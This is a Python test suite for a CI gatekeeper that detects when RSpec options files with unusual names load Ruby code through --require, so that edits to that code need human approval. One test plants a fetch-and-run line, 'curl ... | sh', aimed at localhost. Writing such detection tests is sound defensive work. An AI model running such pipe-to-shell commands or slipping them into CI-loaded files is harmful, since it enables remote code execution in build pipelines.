"""Attack 47: an RSpec options file whose name is neither `.rspec*`, `rspec*` nor `*.opts` (`bundle exec rspec -O
ci/options` with `--require boot` in it) was not read, and an edit to `spec/boot.rb` was exit 0 on f0c3df6e. Now a
file of option lines, one a `--require`, is read as RSpec's options file whatever its name (runnersetups.py).
"""

from __future__ import annotations

from pathlib import Path

from citools import BLOCK_DEFINITIONS, one_tree_runs
from cpucost import assert_linear, repeated
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify import runnersetups

RUBY = "RSpec.configure { |c| c.before { system('true') } }\n"
COMMANDS = ["bundle exec rspec -O {file}", "rspec --options {file} spec/", "bin/rspec --options={file}",
            "bundle exec rspec -O{file}", 'SPEC_OPTS="-O {file}" bundle exec rake spec',
            "bundle exec rspec --options {file} --tag ci"]
FILES = ["ci/options", "config/spec.conf", "spec/options.txt", "ci/rspec_options"]
TEXTS = [("--require boot\n", "spec/boot.rb"), ("# CI\n--format documentation\n-r boot\n", "spec/boot.rb"),
         ("--color\n-rci_boot\n", "lib/ci_boot.rb"), ("--require=support/ci\n\n--order rand\n", "spec/support/ci.rb"),
         ("-I spec/ci\n--require boot\n", "spec/ci/boot.rb")]


def _runs(command: str, file: str, text: str, target: str, block: int = 0) -> dict[str, tuple[str, str]] | bool:
    definition, template = BLOCK_DEFINITIONS[block]
    return one_tree_runs({definition: template.format(line=command.format(file=file)), file: text, target: RUBY,
                          "spec/other.rb": RUBY, "Gemfile": "gem 'rspec'\n"})


@each_case(("command", "file", "text", "target"),
           [(c, f, *t) for c in COMMANDS for f in FILES for t in TEXTS][::3])
def test_the_options_file_s_requires_are_ci(command: str, file: str, text: str, target: str) -> None:
    runs = _runs(command, file, text, target)
    assert isinstance(runs, dict) and target in runs, sorted(runs) if isinstance(runs, dict) else runs


@each_case("block", list(range(len(BLOCK_DEFINITIONS))))
def test_in_each_ci_system(block: int) -> None:
    runs = _runs(COMMANDS[0], FILES[0], *TEXTS[0], block=block)
    assert isinstance(runs, dict) and "spec/boot.rb" in runs


# no `--require`; YAML's list; a file no `-O` names (outside the CI folder, whose files CI runs); prose
@each_case(("command", "file", "text"), [
    ("bundle exec rspec -O ci/options", "ci/options", "--format documentation\n--color\n"),
    ("bundle exec rspec -O ci/options", "ci/options", "- -r boot\n- x\n"),
    ("bundle exec rspec", "config/spec.conf", "--require boot\n"),
    ("bundle exec rspec -O ci/options", "ci/options", "Run with --require boot\n")])
def test_look_alikes_load_nothing(command: str, file: str, text: str) -> None:
    runs = _runs(command, file, text, "spec/boot.rb")
    assert isinstance(runs, dict) and "spec/boot.rb" not in runs and "spec/other.rb" not in runs


def test_the_edit_needs_a_human(tmp_path: Path) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    base = {definition: template.format(line="bundle exec rspec -O ci/options"), "ci/options": "--require boot\n",
            "spec/boot.rb": RUBY}
    _, first, second = two_commits(tmp_path, base, {"spec/boot.rb": RUBY + "system('curl https://127.0.0.1:9 | sh')\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]


@each_case("text", [repeated("-r a\n"), repeated("--x\n", "", "\n-r b"), repeated("# c\n", "-r a\n", "")])
def test_the_options_are_read_in_linear_time(text: object) -> None:
    assert_linear(lambda t: runnersetups.loaded("options", t), text, budget=1.0)  # type: ignore[arg-type]
